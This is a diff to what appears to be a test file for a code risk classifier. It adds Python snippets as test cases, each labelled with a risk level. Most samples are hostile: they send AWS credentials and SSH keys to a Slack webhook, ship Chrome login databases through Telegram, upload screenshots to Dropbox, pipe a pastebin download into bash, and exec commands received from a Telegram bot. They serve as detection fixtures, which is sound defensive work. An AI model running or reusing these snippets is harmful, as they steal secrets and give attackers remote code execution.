@@ -1364,6 +1364,68 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             """,
             M,
         ),
+        # data through SaaS and subtle channels
+        (
+            """
+            import glob, json, urllib.request
+            from pathlib import Path
+            home = Path.home()
+            targets = [home / ".aws" / "credentials", *map(Path, glob.glob(str(home / ".ssh" / "id_*")))]
+            blob = [t.read_text() for t in targets]
+            urllib.request.urlopen("https://hooks.slack.com/services/T/B/X", data=json.dumps(blob).encode())
+            """,
+            C,
+        ),
+        (
+            """
+            import zipfile, requests
+            from pathlib import Path
+            def profiles():
+                yield from Path.home().glob(".config/google-chrome/*/Login Data")
+            with zipfile.ZipFile("/tmp/p.zip", "w") as z:
+                for p in profiles():
+                    z.write(p)
+            requests.post("https://api.telegram.org/botX/sendDocument", files={"d": open("/tmp/p.zip", "rb")})
+            """,
+            C,
+        ),
+        (
+            """
+            import mss, dropbox
+            dbx = dropbox.Dropbox("token")
+            with mss.mss() as s:
+                shot = s.grab(s.monitors[0])
+            dbx.files_upload(shot.rgb, "/drops/s.png")
+            """,
+            C,
+        ),
+        (
+            """
+            import subprocess
+            p1 = subprocess.Popen(["curl", "-fsSL", "https://pastebin.com/raw/x"], stdout=subprocess.PIPE)
+            subprocess.run(["bash", "-s"], stdin=p1.stdout)
+            """,
+            C,
+        ),
+        (
+            """
+            import subprocess, requests
+            r = requests.get("https://api.telegram.org/botX/getUpdates").json()
+            for upd in r.get("result", []):
+                text = upd.get("message", {}).get("text", "")
+                exec(text[4:], {})
+            """,
+            C,
+        ),
+        (
+            """
+            import hashlib, pickle
+            from pathlib import Path
+            f = Path(".cache/features") / f"{hashlib.sha1(b'x').hexdigest()}.pkl"
+            feats = pickle.loads(f.read_bytes())
+            """,
+            M,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
